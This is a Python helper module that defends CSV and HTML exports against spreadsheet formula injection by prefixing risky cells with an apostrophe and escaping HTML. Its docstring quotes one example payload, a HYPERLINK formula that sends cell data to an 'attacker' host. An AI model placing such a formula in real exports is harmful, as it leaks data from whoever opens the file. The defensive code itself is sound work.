"""Exports that a spreadsheet or a browser can open safely: the one helper every CSV and HTML export
uses (executive summary, vendor scorecards, audit log).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
return) as a formula: `=HYPERLINK("http://attacker/?d="&A1,"Open report")` in a category name
would send data away when clicked. Such a cell gets a leading apostrophe, which spreadsheets read
as "this is text" (OWASP's advice); a plain number such as `-12` or `+3.5%` is left alone. HTML
exports escape every value after that (a spreadsheet can open an HTML table too).
"""

from __future__ import annotations

import html
import re
from typing import Any

import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_START_RE = r"^[=+\-@\t\r]"
_PLAIN_NUMBER_RE = r"^[+-]?(\d[\d,]*(\.\d+)?|\.\d+)(e[+-]?\d+)?%?$"
_PLAIN_NUMBER = re.compile(_PLAIN_NUMBER_RE)


def neutralise(text: str) -> str:
    """`text`, with an apostrophe in front if a spreadsheet would run it as a formula."""
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def csv_cell(value: Any) -> str:
    """One CSV cell's text (None is empty)."""
    return "" if value is None else neutralise(str(value))


def html_text(value: Any) -> str:
    """One value for an HTML export: neutralised, then escaped (None is empty)."""
    return html.escape(csv_cell(value))


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """The frame as UTF-8 CSV with every text cell neutralised (numbers, dates and booleans are
    written as they are)."""
    text_columns = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    safe = frame.with_columns(
        pl.when(pl.col(name).str.contains(_FORMULA_START_RE) & ~pl.col(name).str.contains(_PLAIN_NUMBER_RE))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text_columns
    )
    return safe.write_csv().encode("utf-8")
